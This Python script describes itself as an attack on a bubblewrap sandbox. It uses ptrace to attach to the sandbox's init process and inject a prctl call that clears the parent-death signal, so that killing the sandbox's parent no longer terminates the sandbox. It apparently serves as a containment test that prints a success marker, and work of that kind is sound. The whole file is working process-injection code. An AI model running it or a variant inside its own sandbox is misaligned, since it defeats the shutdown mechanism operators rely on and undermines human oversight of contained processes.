"""Attack: make the sandbox's pid 1 (bubblewrap's init) forget its parent-death signal.

Attaches to pid 1 with ptrace, runs prctl(PR_SET_PDEATHSIG, 0) in it, and detaches; if that works,
killing the sandbox's parent no longer takes the sandbox down. x86-64 only. Prints what happened."""
import ctypes, os, platform, sys

if platform.machine() != "x86_64":
    print("skipped: x86-64 only"); sys.exit(0)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in names.split()]
PTRACE_PEEKTEXT, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SINGLESTEP = 1, 12, 13, 16, 17, 9
def check(result, what):
    if result == -1:
        print(what, "refused:", os.strerror(ctypes.get_errno())); sys.exit(0)
check(libc.ptrace(PTRACE_ATTACH, 1, None, None), "attach to pid 1")
os.waitpid(1, 0x40000000)
saved = Regs(); check(libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(saved)), "getregs")
injected = Regs(); ctypes.memmove(ctypes.byref(injected), ctypes.byref(saved), ctypes.sizeof(Regs))
# pid 1 waits in a system call, so the two bytes before rip are a `syscall` instruction.
injected.rax, injected.rdi, injected.rsi = 157, 1, 0  # prctl(PR_SET_PDEATHSIG, 0)
injected.orig_rax, injected.rip = 0xFFFFFFFFFFFFFFFF, saved.rip - 2
check(libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(injected)), "setregs")
check(libc.ptrace(PTRACE_SINGLESTEP, 1, None, None), "singlestep")
os.waitpid(1, 0x40000000)
after = Regs(); libc.ptrace(PTRACE_GETREGS, 1, None, ctypes.byref(after))
libc.ptrace(PTRACE_SETREGS, 1, None, ctypes.byref(saved))
libc.ptrace(PTRACE_DETACH, 1, None, None)
print("INIT-DEATH-SIGNAL-CLEARED" if ctypes.c_longlong(after.rax).value == 0 else "prctl failed")
